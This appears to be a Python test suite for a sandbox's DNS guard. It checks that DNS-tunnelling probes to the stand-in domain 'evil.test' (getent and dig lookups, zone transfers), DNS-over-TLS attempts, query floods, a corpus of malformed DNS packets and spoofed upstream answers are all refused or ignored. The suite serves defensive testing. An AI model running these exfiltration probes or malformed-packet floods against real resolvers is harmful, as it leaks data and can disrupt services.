"""Attacks by way of names: what leaves in questions, what a parser may choke on, answers that lie. E19, E21, E22."""
import unittest

import attack
from attack import NAMES, world

REFUSED, FORMERR, NOTIMP, SERVFAIL = 5, 1, 4, 2
SERVERS = ("192.0.2.53", "8.8.8.8", world.DNS, world.EVIL, "127.0.0.53", "10.9.9.9", world.EVIL6,
           "2001:4860:4860::8888")


def setUpModule():
    attack.begin()


class Leaks(attack.Case):
    def test_E19_questions_about_others_do_not_leave(self, user):
        sandbox = self.sandbox(network=NAMES)
        code = """
codes = {resolve("evil.test")[0]}
for i in range(40):
    for kind in (1, 28, 16, 10, 255, 65, 33, 15, 2, 6):
        answer = ask(question(os.urandom(20).hex() + ".evil.test", kind), wait=5)
        codes.add(answer[3] & 15)
codes |= {resolve(name)[0] for name in ("a.test.evil.test", "b.test", "test", "secret.www.a.test")}
show(sorted(codes))
"""
        with self.nothing():
            self.assertEqual(self.probe(sandbox, code, user), [REFUSED])
            out = self.sh(sandbox, "for i in 1 2 3; do getent hosts $(head -c20 /dev/urandom | xxd -p).evil.test; "
                          "done; dig +short +tries=1 ANY evil.test; dig +short +tries=1 TXT x.evil.test; "
                          "dig +tries=1 AXFR evil.test; true", user)
            self.assertNotIn("stolen", out)
        self.on_record(sandbox, kind="dns", verdict="deny", name="evil.test")

    def test_E19_whoever_is_asked_the_guard_answers(self, user):
        sandbox = self.sandbox(network=NAMES)
        code = f"""
show([[resolve(name, 1, host, stream) for name in ("a.test", "x.evil.test")]
      for host in {SERVERS!r} for stream in (False, True) if not (host == "127.0.0.53")])
"""
        with self.only(names=["a.test"]):
            for good, bad in self.probe(sandbox, code, user):
                self.assertEqual((good[0], bad), (0, [REFUSED, []]))

    def test_E19_allowed_names_of_other_kinds(self, user):
        """What is asked about a name that is allowed leaves; what cannot be looked at does not."""
        sandbox = self.sandbox(network=NAMES)
        code = 'show([ask(question("a.test", kind))[3] & 15 for kind in (16, 15, 10, 255, 252, 251, 999, 41, 0)])'
        with self.only(names=["a.test"]) as seen:
            txt, mx, *others = self.probe(sandbox, code, user)
            self.assertEqual((txt, mx), (0, 0))
            self.assertEqual(set(others) - {REFUSED, NOTIMP, FORMERR}, set())
        self.assertEqual({q["type"] for q in seen.queries()} - {1, 28, 15, 16}, set())

    def test_E19_no_dns_over_tls(self, user):
        for policy in ({}, NAMES):
            sandbox = self.sandbox(network=policy)
            hosts = (world.EVIL, world.EVIL6, world.A)
            code = f"show([attempt(tcp, host, 853, hello('a.test')) for host in {hosts!r}])"
            with self.nothing():
                self.assertEqual(set(self.probe(sandbox, code, user)) - {"ECONNRESET", ""}, set())

    def test_E21_a_wildcard_is_no_open_door(self):
        """200 names below it in a minute, and then no more; both users at once."""
        code = """
codes = {}
for i in range(230):
    began = time.monotonic()
    answer = attempt(ask, question(f"{os.urandom(8).hex()}.b.test"), DNS, False, 5)
    key = str(ord(answer[3]) & 15) if len(answer) > 12 else answer
    codes[key] = codes.get(key, 0) + 1
    time.sleep(max(0, 0.0215 - (time.monotonic() - began)))  # questions in a second have a limit, too
show(codes)
"""
        sandboxes = {user: self.sandbox(network=NAMES) for user in attack.USERS}
        for user, codes in self.both(lambda user: self.probe(sandboxes[user], code, user)).items():
            self.assertLessEqual(codes["0"], 200, user)
            self.assertGreaterEqual(codes["0"], 150, user)
            self.assertEqual(set(codes), {"0", str(REFUSED)})
            self.on_record(sandboxes[user], kind="dns", verdict="deny", rule="dns budget", detail="names per minute")
        self.assertLessEqual(len({q["name"] for q in self.before.queries("b.test")}), 2 * 200)

    def test_E21_questions_in_a_second(self, user):
        sandbox = self.sandbox()
        code = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((DNS, 53))
for i in range(1500):
    s.send(question("a.test", 1, i))
s.settimeout(1)
codes = {}
with contextlib.suppress(TimeoutError):
    while True:
        code = s.recv(4096)[3] & 15
        codes[code] = codes.get(code, 0) + 1
show(codes)
"""
        with self.only(names=["a.test"]):
            codes = self.probe(sandbox, code, user)
        self.assertGreater(codes.get(str(REFUSED), 0), 100, codes)
        self.on_record(sandbox, kind="dns", verdict="deny", rule="dns budget")


class Parser(attack.Case):
    """E22: from inside."""
    MESSAGES = {
        "empty": b"", "one byte": b"\0", "half a head": bytes(6), "head alone": b"\1\2\1\0\0\1\0\0\0\0\0\0",
        "answer": b"\1\2\x81\x80\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1",
        "two questions": b"\1\2\1\0\0\2\0\0\0\0\0\0\1a\4test\0\0\1\0\1\1b\4test\0\0\1\0\1",
        "no question": b"\1\2\1\0\0\0\0\0\0\0\0\0",
        "65535 questions": b"\1\2\1\0\xff\xff\0\0\0\0\0\0\1a\4test\0\0\1\0\1",
        "loop": b"\1\2\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", "forward": b"\1\2\1\0\0\1\0\0\0\0\0\0\xc0\x10\0\1\0\1\0",
        "long label": b"\1\2\1\0\0\1\0\0\0\0\0\0\x40" + b"x" * 64 + b"\0\0\1\0\1",
        "reserved label": b"\1\2\1\0\0\1\0\0\0\0\0\0\x80x\0\0\1\0\1",
        "no end": b"\1\2\1\0\0\1\0\0\0\0\0\0\3abc", "label beyond": b"\1\2\1\0\0\1\0\0\0\0\0\0\x3fabc",
        "name of 300": b"\1\2\1\0\0\1\0\0\0\0\0\0" + (b"\x3b" + b"x" * 59) * 5 + b"\0\0\1\0\1",
        "many labels": b"\1\2\1\0\0\1\0\0\0\0\0\0" + b"\1x" * 200 + b"\0\0\1\0\1",
        "notify": b"\1\2\x24\0\0\1\0\0\0\0\0\0\1a\4test\0\0\6\0\1",
        "update": b"\1\2\x28\0\0\1\0\0\0\0\0\0\1a\4test\0\0\6\0\1",
        "status": b"\1\2\x10\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1",
        "opcode 15": b"\1\2\x78\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1",
        "chaos": b"\1\2\1\0\0\1\0\0\0\0\0\0\7version\4bind\0\0\x10\0\3",
        "class any": b"\1\2\1\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\xff",
        "bytes in a name": b"\1\2\1\0\0\1\0\0\0\0\0\0\4\0\r\n.\4test\0\0\1\0\1",
        "root": b"\1\2\1\0\0\1\0\0\0\0\0\0\0\0\1\0\1",
        "trailing": b"\1\2\1\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1" + b"x" * 400,
        "bad opt": b"\1\2\1\0\0\1\0\0\0\0\0\1\1a\4test\0\0\1\0\1\0\0\x29\xff\xff\0\0\0\0\xff\xff",
        "two opts": b"\1\2\1\0\0\1\0\0\0\0\0\2\1a\4test\0\0\1\0\1" + b"\0\0\x29\x10\0\0\0\0\0\0\0" * 2,
        "65535 records": b"\1\2\1\0\0\1\xff\xff\xff\xff\xff\xff\1a\4test\0\0\1\0\1",
        "noise": bytes(i * 73 % 251 for i in range(1400)), "long": b"\1\2\1\0\0\1" + bytes(60000),
    }

    def test_E22_malformed_questions(self, user):
        sandbox = self.sandbox()
        code = f"""
messages = {self.MESSAGES!r}
results = {{}}
for name, message in messages.items():
    over_udp = attempt(ask, message, DNS, False, 0.15)
    over_tcp = attempt(ask, message, DNS, True, 0.15)
    results[name] = [over_udp if len(over_udp) < 12 else ord(over_udp[3]) & 15,
                     over_tcp if len(over_tcp) < 12 else ord(over_tcp[3]) & 15]
show(results)
"""
        allowed = {FORMERR, NOTIMP, REFUSED, "TIMEOUT", "ECONNRESET"}
        with self.only(names=["a.test"]):
            got = self.probe(sandbox, "WAIT_S = 0.2\n" + code, user)
            self.assertEqual({n: codes for n, codes in got.items() if not set(codes) <= allowed
                              and n not in ("trailing", "bad opt", "two opts", "65535 records")}, {})
            self.assertIn(world.A, self.sh(sandbox, "dig +short a.test", user))

    def test_E22_streams_that_do_not_end(self, user):
        """Length and nothing, one byte at a time, many questions at once, a stream that is never closed."""
        sandbox = self.sandbox()
        code = """
good = question("a.test")
framed = struct.pack(">H", len(good)) + good
def slowly(s):
    for i in range(len(framed)):
        s.sendall(framed[i:i + 1])
        time.sleep(0.002)
    return exactly(s, 2)
def many(s):
    s.sendall(framed * 30)
    return b"".join(exactly(s, int.from_bytes(exactly(s, 2), "big"))[:2] for _ in range(30))
held = [connect(DNS, 53) for _ in range(20)]
for s in held:
    s.sendall(b"\\xff\\xff" + bytes(100))
with connect(DNS, 53) as one, connect("8.8.8.8", 53) as two:
    show([len(attempt(slowly, one)), len(attempt(many, two))])
"""
        with self.only(names=["a.test"]):
            self.assertEqual(self.probe(sandbox, code, user), [2, 60])


class Liars(attack.Case):
    """Answers from outside that are late, cut, malformed or not what was asked for."""
    GOOD = ("slow", "cut", "extra", "twice", "late-lie", "flood")
    BAD = ("never", "cut-never", "wrong-id", "wrong-name", "wrong-type", "no-question", "loop", "short", "count",
           "length",
           "label", "empty", "noise", "query")

    def test_E22_only_right_answers_count(self):
        names = [f"{how}.trick.test" for how in (*self.GOOD, *self.BAD)]
        sandboxes = {user: self.sandbox() for user in attack.USERS}
        code = f"""
import threading
results = {{}}
def one(name):
    results[name] = attempt(ask, question(name), DNS, False, 30)
threads = [threading.Thread(target=one, args=(name,)) for name in {names!r}]
for t in threads:
    t.start()
for t in threads:
    t.join()
show({{name: [ord(a[3]) & 15, {world.A!r} if socket.inet_aton({world.A!r}).decode("latin-1") in a else None,
     socket.inet_aton({world.EVIL!r}).decode("latin-1") in a] if len(a) > 12 else a for name, a in results.items()}})
"""
        with self.only(names=names):
            results = self.both(lambda user: self.probe(sandboxes[user], code, user))
        for got in results.values():
            self.assertEqual([n for n, a in got.items() if a[2] is True], [], "lies")
            self.assertEqual({n.split(".")[0] for n, a in got.items() if a[:2] == [0, world.A]}, set(self.GOOD))
            for how in self.BAD:
                self.assertIn(got[f"{how}.trick.test"], ([SERVFAIL, None, False], [0, None, False]), how)

    def test_E22_nor_do_connections_follow_them(self, user):
        names = [f"{how}.trick.test" for how in ("extra", "twice", "late-lie", "flood")]
        sandbox = self.sandbox(network={"allowOut": ["*.trick.test"], "denyOut": ["0.0.0.0/0"]})
        with self.only(world.A, names=names):
            out = sandbox.sh("; ".join(f"curl -sS -m12 http://{name}/who & " for name in names).replace("& ;",
                                                                                                        "& ") + " wait",
                             user=user)[1]
        self.assertNotIn('"who": "evil"', out)

    def test_E22_no_ech_and_no_hints(self, user):
        sandbox = self.sandbox(network={"allowOut": ["https.test"], "denyOut": ["0.0.0.0/0"]})
        with self.only(names=["https.test"]):
            out = self.sh(sandbox, "dig +short https.test HTTPS; dig +short https.test TYPE64", user)
        for word in ("ech", "hint", "198.41.0.4"):
            self.assertNotIn(word, out)


if __name__ == "__main__":
    unittest.main()
